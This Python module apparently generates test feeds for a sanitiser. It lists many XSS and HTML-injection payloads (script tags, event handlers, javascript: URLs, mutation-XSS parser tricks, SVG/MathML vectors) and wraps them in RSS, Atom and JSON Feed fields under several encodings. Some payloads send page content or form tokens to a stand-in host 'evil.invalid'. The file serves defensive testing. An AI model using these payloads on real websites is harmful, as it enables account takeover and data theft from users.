"""Markup that means harm, in every place of a feed: vectors × contexts × fields × ways to write them, as documents.

Whatever of it ran would call `alert`, ask `evil.invalid`, load something, or cover the page.
"""

import base64
import json
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from html import escape
from itertools import count
from xml.sax.saxutils import quoteattr

VECTORS = (
    # scripts
    "<script>alert(1)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>import '//evil.invalid/m.js'</script>",
    "<script type=importmap>{\"imports\":{\"/static/js/inbox.js\":\"//evil.invalid/i.js\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"//evil.invalid/s\"]}]}</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</div></article></main><script>alert(1)</script>",
    "<script\x00>alert(1)</script\x00>",
    "<script\n\r\t/x>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src='x'onerror='alert(1)'>",
    "<img src=`x` onerror=alert(1)//`>",
    "<img src=x:x one\x00rror=alert(1)>",
    "<img src=x on\u017ferror=alert(1) ONERROR=alert(1)>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video autoplay onloadstart=alert(1) src=//evil.invalid/v><source onerror=alert(1) src=x></video>",
    "<p tabindex=0 autofocus onfocus=alert(1) onmouseover=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=https://e.example/ onclick=alert(1) ping=//evil.invalid/p target=_top id=mast name=forms>x</a>",
    "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button><p popover id=x>y</p>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt&#58;alert(1)>x</a>",
    "<a href='javascript://e.example/%0aalert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:alert(1)'>x</a><a href='blob:https://e.example/1'>y</a><a href='filesystem:x'>z</a>",
    "<a href='https://e.example/&quot; onmouseover=&quot;alert(1)'>x</a>",
    "<a href='//evil.invalid\\@e.example/'>x</a><a href='https:evil.invalid'>y</a>",
    # what loads by itself
    "<img src=//evil.invalid/i.png srcset='//evil.invalid/s.png 2x' loading=eager>",
    "<picture><source srcset=//evil.invalid/p.webp><img src=//evil.invalid/p.png></picture>",
    "<audio autoplay src=//evil.invalid/a.mp3></audio><video poster=//evil.invalid/poster.png></video>",
    "<link rel=stylesheet href=//evil.invalid/l.css><link rel=prefetch href=//evil.invalid/l>",
    "<link rel=dns-prefetch href=//evil.invalid><link rel=modulepreload href=//evil.invalid/l.js>",
    "<table background=//evil.invalid/t.png><tr><td background=//evil.invalid/d.png>x</table>",
    "<input type=image src=//evil.invalid/b.png><track src=//evil.invalid/t.vtt><bgsound src=//evil.invalid/s>",
    # styles
    "<style>@import '//evil.invalid/s.css';body{background:url(//evil.invalid/b.png)}</style>",
    "<style>*{display:none!important}.mast{position:fixed}</style>",
    "<p style='position:fixed;inset:0;z-index:9999;background:url(//evil.invalid/p.png)'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(//evil.invalid/x);width:expression(alert(1))'>x</p>",
    "<div class='mast wrap vh btn' id=acts>x</div>",
    "<font size=7 color=red face=x><center><big>x</big></center></font>",
    # what covers the page, or makes it another one
    "<dialog open style='position:fixed;inset:0'>x</dialog>",
    "<base href=//evil.invalid/><a href=rel>x</a>",
    "<base target=_top href='javascript:/'>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/m'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'><meta charset=utf-7>",
    "<meta http-equiv=set-cookie content='sessionid=x'><meta name=referrer content=unsafe-url>",
    "<form action=//evil.invalid/f><input name=csrfmiddlewaretoken><button>Go</button></form>",
    "</form><form id=find action=//evil.invalid/f><button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;top.alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'><img src=x onerror=alert(1)></iframe>",
    "<object data=//evil.invalid/o.swf type=text/html><param name=src value=//evil.invalid/p></object>",
    "<embed src=javascript:alert(1)><applet code=x archive=//evil.invalid/a.jar></applet>",
    "<frameset onload=alert(1)><frame src=//evil.invalid/f></frameset>",
    "<portal src=//evil.invalid/p></portal><fencedframe src=//evil.invalid/f></fencedframe>",
    "<div hx-get=/accounts/logout/ hx-trigger=load hx-on:load=alert(1) data-hx-get=//evil.invalid/h>x</div>",
    # other languages inside
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject><image href=//evil.invalid/i></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=javascript:alert(1) href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mi><style></mi><img src=x onerror=alert(1)></style></math>",
    "<math><mspace width=99999px height=99999px depth=-9999px></mspace><mpadded voffset=-999px lspace=-999px>x</math>",
    "<template shadowrootmode=open><script>alert(1)</script><slot onslotchange=alert(1)></slot></template>",
    "<x-y is=z><slot name=q>x</slot></x-y>",
    # what parsers see in different ways
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?><img src=x onerror=alert(1)>",
    "<%<!--'%><script>alert(1)</script -->",
    "</p/><img src=x onerror=alert(1)></x ><//><script>alert(1)</script>",
    "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    "<a title='\"><img src=x onerror=alert(1)>' href='https://e.example/'>x</a>",
    "<img alt='\"><script>alert(1)</script>' src='https://e.example/\"><script>alert(1)</script>'>",
    "<img alt='x&quot; onerror=&quot;alert(1)' src=https://e.example/x>",
    "<img src='//evil.invalid/?",  # and the rest of the page behind it
    "<a href='//evil.invalid/?",
    "<form action='//evil.invalid/?",
    "<p title=\"",
    "<!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e <\u017fcript>alert(1)</\u017fcript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e\u2066<b>x</b>\u0301" + "\u0338" * 40,
    "{% load x %}{{ request.user.password }}${alert(1)}{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip
CONTEXTS = (
    "{}",
    "<p>{}</p>",
    "<table><tr><td>{}</td></tr></table>",
    "<table><tr>{}</tr></table>",
    "<a href='https://e.example'>{}</a>",
    "<ul><li>{}</ul>",
    "<pre>\n{}</pre>",
    "<math><mtext>{}</mtext></math>",
    "<math><semantics><mi>{}</mi><annotation-xml encoding='text/html'>{}</annotation-xml></semantics></math>",
    "<svg><foreignObject>{}</foreignObject><desc>{}</desc><title>{}</title></svg>",
    "<p title='{}'>x</p>",
    '<img alt="{}" src="https://e.example/i.png">',
    "<!-- {} -->{}",
    "<style>{}</style><script>{}</script>",
    "<noscript>{}</noscript><iframe>{}</iframe>",
    "<select><option>{}</option></select>",
    "<img src=https://e.example/x>" * 70 + "{}",  # through the sanitiser's other door, for texts of many tags
    "<b><i><u><s>" * 40 + "{}",
)


@dataclass(frozen=True)
class Case:
    """One vector in its context; `number` is its own."""

    number: int
    html: str
    field: int  # which of the fields that many cases share
    way: int

    @property
    def name(self) -> str:
        return f"case-{self.number}"


def cases() -> list[Case]:
    """Every vector in every context. From context to context each vector goes through all fields, in other ways."""
    found: list[Case] = []
    for place, context in enumerate(CONTEXTS):
        for number, vector in enumerate(VECTORS):
            field, way = number + place, number + 2 * place + place // 5
            found.append(Case(len(found), context.replace("{}", vector), field, way))
    return found


# -------------------------------------------------------------------- the ways
def as_it_is(html: str) -> str:
    return html


def as_references(html: str) -> str:
    """Letters of names and addresses as character references, which a parser of attributes undoes."""
    return html.replace("alert", "&#97;lert").replace("javascript", "&#x6A;avascript").replace("evil", "&#101vil")


def in_capitals(html: str) -> str:
    return html.swapcase() if "alert" in html else html.upper()


def with_controls(html: str) -> str:
    """With what parsers drop, between the letters of names."""
    return html.replace("script", "scr\x00ipt").replace("onerror", "one\x0brror").replace("href", "h\x1fref")


def in_base64(html: str) -> str:
    """As a document of its own in an address."""
    return f"<iframe src='data:text/html;base64,{base64.b64encode(html.encode()).decode()}'></iframe>{html}"


WAYS: tuple[Callable[[str], str], ...] = (as_it_is, as_references, in_capitals, with_controls, in_base64)


# ------------------------------------------------------------------ the fields
def rss_escaped(case: Case, html: str) -> str:
    return (
        f"<item><guid isPermaLink='false'>{case.name}</guid><title>{case.name} {escape(html)}</title>"
        f"<description>{escape(html)}</description></item>"
    )


def rss_cdata(case: Case, html: str) -> str:
    inner = html.replace("]]>", "]]]]><![CDATA[>")
    return (
        f"<item><guid isPermaLink='false'>{case.name}</guid><title><![CDATA[{case.name} {inner}]]></title>"
        f"<content:encoded><![CDATA[{inner}]]></content:encoded></item>"
    )


def rss_bare(case: Case, html: str) -> str:
    """Markup as it is in XML: hardly ever well-formed."""
    return (
        f"<item><guid isPermaLink='false'>{case.name}</guid><title>{case.name}</title>"
        f"<description>{html}</description></item>"
    )


def rss_addresses(case: Case, html: str) -> str:
    """In what should be addresses and kinds of files."""
    value = quoteattr(html)
    return (
        f"<item><guid>{case.name} {escape(html)}</guid><title>{case.name}</title><link>{escape(html)}</link>"
        f"<enclosure url={value} type={value}/><media:content url={value} type={value}/>"
        f"<enclosure url='https://e.example/{escape(html)}'/><media:thumbnail url={value}/>"
        f"<itunes:duration>{escape(html)}</itunes:duration><description>{case.name}</description></item>"
    )


def atom_html(case: Case, html: str) -> str:
    return (
        f"<entry><id>{case.name}</id><title type='html'>{case.name} {escape(html)}</title>"
        f"<link href={quoteattr(html)} title={quoteattr(html)}/><content type='html'>{escape(html)}</content></entry>"
    )


def atom_xhtml(case: Case, html: str) -> str:
    """As elements of the document itself."""
    return (
        f"<entry><id>{case.name}</id><title>{case.name}</title><content type='xhtml'>"
        f"<div xmlns='http://www.w3.org/1999/xhtml'>{html}</div></content></entry>"
    )


def json_html(case: Case, html: str) -> str:
    files = [{"url": html, "mime_type": html, "title": html}]
    entry = {"id": case.name, "url": html, "title": f"{case.name} {html}", "content_html": html, "attachments": files}
    return json.dumps(entry | {"image": html, "external_url": html})


RSS = """<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
    xmlns:media="http://search.yahoo.com/mrss/" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
    <channel><title>x</title>{}</channel></rss>"""
ATOM = '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>{}</feed>'
JSON = '{"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": [{}]}'


@dataclass(frozen=True)
class Field:
    """Where in which form of feed, and how documents of that form are written and labelled."""

    write: Callable[[Case, str], str]
    form: str
    encoding: str
    content_type: str
    between: str = ""


FIELDS = (
    Field(rss_escaped, RSS, "utf-8", "text/html; charset=utf-7"),
    Field(rss_cdata, RSS, "utf-16", "text/xml; charset=iso-8859-1"),
    Field(rss_addresses, RSS, "utf-8-sig", "application/rss+xml"),
    Field(atom_html, ATOM, "utf-32", "application/atom+xml"),
    Field(json_html, JSON, "utf-8", "text/plain; charset=iso-2022-jp", between=","),
)
# A document that is broken loses what comes after: here each entry has one of its own.
BARE = (
    Field(rss_bare, RSS, "utf-8", "application/rss+xml"),
    Field(atom_xhtml, ATOM, "utf-16", "application/atom+xml"),
)


@dataclass(frozen=True)
class Document:
    """A feed with an entry for each of the cases."""

    body: bytes
    content_type: str
    cases: tuple[Case, ...]


def documents(every: Sequence[Case], *, bare: int = 40) -> Iterator[Document]:
    """The cases in shared documents; and `bare` of them once more as bare markup, each by itself."""
    for number, field in enumerate(FIELDS):
        yield _document(field, [case for case in every if case.field % len(FIELDS) == number])
    numbers = count(1 + max(case.number for case in every))
    for place, case in enumerate(every[:: len(every) // bare][:bare]):
        yield _document(BARE[place % len(BARE)], [replace(case, number=next(numbers), way=0)])


def _document(field: Field, cases: Sequence[Case]) -> Document:
    entries = [field.write(case, WAYS[case.way % len(WAYS)](case.html)) for case in cases]
    text = field.form.replace("{}", field.between.join(entries), 1)
    return Document(text.encode(field.encoding), field.content_type, tuple(cases))
